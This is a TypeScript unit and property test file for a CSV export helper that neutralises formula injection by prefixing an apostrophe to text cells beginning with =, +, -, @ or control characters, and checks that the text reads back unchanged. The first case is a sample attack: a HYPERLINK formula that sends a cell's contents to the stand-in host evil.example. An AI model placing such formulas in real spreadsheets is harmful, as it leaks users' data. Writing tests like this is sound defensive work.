import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCellText, neutraliseCsvText, restoreCsvText } from './csvCellText.ts';

describe('csvCellText: text stays text in every CSV', () => {
  it.each([
    // What a workbook from an attacker (or a careless paste) holds.
    ['=HYPERLINK("http://evil.example/?"&A1,"点我")', `'=HYPERLINK("http://evil.example/?"&A1,"点我")`],
    ['+1+1', "'+1+1"],
    ['@SUM(1)', "'@SUM(1)"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['\0=1', "'\0=1"],
    // A phone typed as text stays text, and so does an id whose leading zero a number would drop.
    ['+8613912345678', "'+8613912345678"],
    ['-0042', "'-0042"],
    ['-1234.5x', "'-1234.5x"],
    ['--', "'--"],
    ['-1,23', "'-1,23"],
    // A negative amount written as text opens as that number, and a lone dash as a dash: neither
    // runs anything, and an apostrophe would show and keep SUM from adding the amount.
    ['-5', '-5'],
    ['-1234.5', '-1234.5'],
    ['-1,234.50', '-1,234.50'],
    ['-0.5', '-0.5'],
    ['-', '-'],
    // Nothing to guard.
    ['00423', '00423'],
    ['张三', '张三'],
    ['a=b', 'a=b'],
    [' =1', ' =1'],
    ['', ''],
  ])('text %j is written %j', (text, expected) => {
    expect(csvCellText(text)).toBe(expected);
  });

  it.each([
    [-5, '-5'],
    [-1234.5, '-1234.5'],
    [0, '0'],
    [42, '42'],
    [-1e-7, '-1e-7'],
  ])('a real number %d stays the number %s', (cell, expected) => {
    expect(csvCellText(cell)).toBe(expected);
  });

  it('writes other cells as spreadsheets show them', () => {
    expect(csvCellText(null)).toBe('');
    expect(csvCellText(true)).toBe('TRUE');
    expect(csvCellText(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(csvCellText(new Date(Date.UTC(2026, 10, 24)))).toBe('2026-11-24');
    expect(csvCellText(new Date(Date.UTC(2026, 10, 24)), () => '=1')).toBe("'=1");
  });

  it('never lets a text cell start a formula, and guards it once', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc
            .tuple(fc.constantFrom('-', '+', '='), fc.stringMatching(/^[\d,.]{0,8}[+\-*/=(]?[\d,.A-Z]{0,4}$/))
            .map(([sign, rest]) => sign + rest),
        ),
        (text) => {
          const written = neutraliseCsvText(text);
          // Only a number with a minus, or a lone dash, may still start with a formula character.
          if (/^[=+\-@\t\r\0]/.test(written)) expect(written).toMatch(/^-(?:\d[\d,]*(?:\.\d+)?)?$/);
          expect(written === text || written === `'${text}`).toBe(true);
          expect(neutraliseCsvText(written)).toBe(written);
        },
      ),
    );
  });

  it.each([
    ["'=SUM(A1:A3)", '=SUM(A1:A3)'],
    ["'+8613912345678", '+8613912345678'],
    ["'-0042", '-0042'],
    ["'@home", '@home'],
    ["'\tindented", '\tindented'],
    ["'\0", '\0'],
    // An apostrophe the toolkit did not put there stays.
    ["'hello", "'hello"],
    ["''=1", "''=1"],
    ["x'=1", "x'=1"],
    [" '=1", " '=1"],
    ["'", "'"],
    ['', ''],
  ])('reads %j back as %j', (cell, text) => {
    expect(restoreCsvText(cell)).toBe(text);
  });

  it('reads back as the text it was written from', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.constantFrom('=', '+', '-', '@', '\t', '\r').map((c) => `${c}1+1`),
        ),
        (text) => {
          fc.pre(!/^'[=+\-@\t\r\0]/.test(text));
          expect(restoreCsvText(neutraliseCsvText(text))).toBe(text);
        },
      ),
    );
  });
});
